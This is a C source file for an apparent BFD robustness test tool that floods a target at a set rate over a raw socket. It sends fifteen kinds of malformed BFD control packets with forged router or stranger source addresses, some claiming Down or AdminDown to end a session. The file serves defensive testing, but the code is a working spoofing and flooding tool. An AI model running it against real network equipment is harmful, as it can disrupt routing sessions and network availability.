/*
 * Bad BFD packets at a steady pace until its input ends; then it prints how many. All of them look as if they came from a router, but for
 * what is wrong with each kind.
 *   bfdStorm DESTINATION PER_SECOND ROUTER DISCRIMINATOR STRANGER
 * DISCRIMINATOR is the one that the attacked has for its session with ROUTER; STRANGER is another host of the link.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { CONTROL = 3784, MULTIHOP = 4784, ADMIN_DOWN = 0, DOWN = 1, UP = 3, AUTHENTICATED = 4, BATCH = 50, LONGEST = 1200 };

struct bad {
  const char *kind;
  uint8_t first, state, flags, multiplier, length, ttl;
  uint16_t bytes, port;
  /* Of the packet: the attacked's for that session, none, or a wrong one. */
  enum { RIGHT, NONE, WRONG } discriminator;
  int isStranger;
};

/* Those that would end the session if they were believed say Down or AdminDown. */
static const struct bad KINDS[] = {
    {"wrong discriminator", 0x20, DOWN, 0, 3, 24, 255, 24, CONTROL, WRONG, 0},
    {"too short", 0x20, DOWN, 0, 3, 24, 255, 23, CONTROL, RIGHT, 0},
    {"empty", 0x20, DOWN, 0, 3, 24, 255, 0, CONTROL, RIGHT, 0},
    {"length below 24", 0x20, DOWN, 0, 3, 20, 255, 24, CONTROL, RIGHT, 0},
    {"length beyond its end", 0x20, DOWN, 0, 3, 64, 255, 24, CONTROL, RIGHT, 0},
    {"long", 0x20, DOWN, 0, 0, 24, 255, LONGEST, CONTROL, RIGHT, 0},
    {"version 2", 0x40, DOWN, 0, 3, 24, 255, 24, CONTROL, RIGHT, 0},
    {"multiplier 0", 0x20, DOWN, 0, 0, 24, 255, 24, CONTROL, RIGHT, 0},
    {"authenticated", 0x20, DOWN, AUTHENTICATED, 3, 48, 255, 48, CONTROL, RIGHT, 0},
    {"one hop away", 0x20, DOWN, 0, 3, 24, 254, 24, CONTROL, RIGHT, 0},
    {"from a stranger", 0x20, DOWN, 0, 3, 24, 255, 24, CONTROL, RIGHT, 1},
    {"end from a stranger", 0x20, ADMIN_DOWN, 0, 3, 24, 255, 24, CONTROL, RIGHT, 1},
    {"first of a stranger", 0x20, DOWN, 0, 3, 24, 255, 24, CONTROL, NONE, 1},
    {"Up without discriminator", 0x20, UP, 0, 3, 24, 255, 24, CONTROL, NONE, 0},
    {"multihop", 0x20, DOWN, 0, 3, 24, 255, 24, MULTIHOP, RIGHT, 0},
};
enum { COUNT = sizeof KINDS / sizeof KINDS[0] };

static double now(void) {
  struct timespec at;
  clock_gettime(CLOCK_MONOTONIC, &at);
  return at.tv_sec + at.tv_nsec / 1e9;
}

static void put32(uint8_t *to, uint32_t value) {
  value = htonl(value);
  memcpy(to, &value, sizeof value);
}

/* The IP header's checksum and length are the kernel's to fill in; UDP over IPv4 needs none. */
static size_t write_packet(uint8_t *packet, const struct bad *bad, char **words, uint32_t salt) {
  struct iphdr ip = {.version = 4, .ihl = 5, .ttl = bad->ttl, .protocol = IPPROTO_UDP};
  struct udphdr udp = {.source = htons(50000), .dest = htons(bad->port), .len = htons(sizeof udp + bad->bytes)};
  const uint32_t right = (uint32_t)strtoul(words[4], NULL, 0);
  uint8_t *body = packet + sizeof ip + sizeof udp;
  memset(packet, 0, sizeof ip + sizeof udp + LONGEST);
  inet_pton(AF_INET, words[1], &ip.daddr);
  inet_pton(AF_INET, bad->isStranger ? words[5] : words[3], &ip.saddr);
  memcpy(packet, &ip, sizeof ip);
  memcpy(packet + sizeof ip, &udp, sizeof udp);
  body[0] = bad->first;
  body[1] = (uint8_t)(bad->state << 6 | bad->flags);
  body[2] = bad->multiplier;
  body[3] = bad->length;
  put32(body + 4, 0x0badcafe);
  put32(body + 8, bad->discriminator == NONE ? 0 : bad->discriminator == RIGHT ? right : right ^ (1 + salt));
  put32(body + 12, 1000000);
  put32(body + 16, 1000000);
  if (bad->flags & AUTHENTICATED) {
    body[24] = 2;
    body[25] = 24;
    body[26] = 1;
  }
  return sizeof ip + sizeof udp + bad->bytes;
}

int main(int count, char **words) {
  if (count < 6) return 2;
  const double perSecond = atof(words[2]), started = now();
  const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  struct sockaddr_in to = {.sin_family = AF_INET};
  static uint8_t packets[BATCH][sizeof(struct iphdr) + sizeof(struct udphdr) + LONGEST];
  struct iovec parts[BATCH];
  struct mmsghdr messages[BATCH];
  long done = 0, failed = 0;
  inet_pton(AF_INET, words[1], &to.sin_addr);
  for (;;) {
    struct pollfd input = {.fd = 0, .events = POLLIN};
    const double early = started + done / perSecond - now();
    const struct timespec pause = {.tv_nsec = early > 0 ? (long)(early * 1e9) : 0};
    /* It must not be busy while it waits: with a higher priority than others, it would have a core for itself. */
    nanosleep(&pause, NULL);
    if (poll(&input, 1, 0) > 0) break;
    memset(messages, 0, sizeof messages);
    for (int i = 0; i < BATCH; i++) {
      parts[i] = (struct iovec){packets[i], write_packet(packets[i], &KINDS[(done + i) % COUNT], words, (uint32_t)(done + i))};
      messages[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &parts[i], .msg_iovlen = 1};
    }
    const int sent = sendmmsg(fd, messages, BATCH, 0);
    if (sent < BATCH) failed += 1;
    done += sent > 0 ? sent : 1;
  }
  printf("{\"sent\":%ld,\"failed\":%ld,\"seconds\":%.3f}\n", done, failed, now() - started);
  return 0;
}
